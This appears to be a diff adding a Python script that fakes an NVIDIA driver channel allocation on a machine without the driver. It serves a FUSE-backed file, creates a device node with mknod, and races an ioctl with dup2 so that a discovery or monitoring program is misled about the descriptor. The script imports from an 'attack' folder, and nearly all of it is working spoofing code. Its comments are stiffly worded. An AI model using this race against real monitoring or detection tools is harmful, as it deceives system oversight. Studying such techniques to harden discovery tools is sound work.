@@ -1,0 +1,76 @@
+# SPDX-License-Identifier: MIT
+"""A program that makes a channel on NVIDIA's driver, where there is no driver.
+
+    program_of_driver.py FOLDER RELEASE
+
+Its file is one that it serves itself (FUSE), so that the ioctl succeeds.  While the call is under way
+the descriptor comes to name a device node of the driver's number: the discovery program looks at
+that when the call has ended.  The parameters are laid out as that release has them.
+"""
+
+from __future__ import annotations
+
+import ctypes
+import os
+import stat
+import struct
+import sys
+import threading
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "attack"))
+
+from held import held_file  # noqa: E402
+
+RM_ALLOC = 0xC030462B
+#: what the channel has
+CLIENT, GROUP, CHANNEL, CLASS = 0xC1D00021, 0x5C000015, 0x5C00001C, 0xC86F
+USERD, OFFSET, ENGINE, NUMBER = 0x5C000033, 0x4200, 1, 77
+
+
+def parameters(release: int) -> bytes:
+    """Of a channel, where the driver's headers have each field (levers/nvidia/needs.csv)."""
+    at = (36, 72, 136, 140, 376) if release >= 610 else (32, 64, 128, 132, 368)
+    data = bytearray(b"\xee" * at[4])
+    struct.pack_into("I", data, at[0], USERD)
+    struct.pack_into("Q", data, at[1], OFFSET)
+    struct.pack_into("I", data, at[2], ENGINE)
+    struct.pack_into("I", data, at[3], NUMBER)
+    return bytes(data)
+
+
+def main() -> None:
+    """Make the call."""
+    folder, release = Path(sys.argv[1]), int(sys.argv[2])
+    asked, go = os.pipe(), os.pipe()
+
+    def answer(given: bytes) -> bytes:
+        os.write(asked[1], b"!")
+        os.read(go[0], 1)
+        return given
+
+    node = folder / "nvidia"
+    os.mknod(node, stat.S_IFCHR | 0o600, os.makedev(195, 255))
+    file = held_file(folder / "file", -1, answer)
+    # The file system is asked at each close, until it has said that it does not care: not while it
+    # answers the call.
+    os.close(os.dup(file))
+    params = ctypes.create_string_buffer(parameters(release))
+    call = ctypes.create_string_buffer(
+        struct.pack("4IQQ4I", CLIENT, GROUP, CHANNEL, CLASS, ctypes.addressof(params), 0, 0, 0, 0, 0)
+    )
+    results = []
+    libc = ctypes.CDLL(None)
+    caller = threading.Thread(
+        target=lambda: results.append(libc.ioctl(file, ctypes.c_ulong(RM_ALLOC), call))
+    )
+    caller.start()
+    os.read(asked[0], 1)
+    os.dup2(os.open(node, os.O_PATH), file)
+    os.write(go[1], b"!")
+    caller.join()
+    sys.exit(results != [0])
+
+
+if __name__ == "__main__":
+    main()
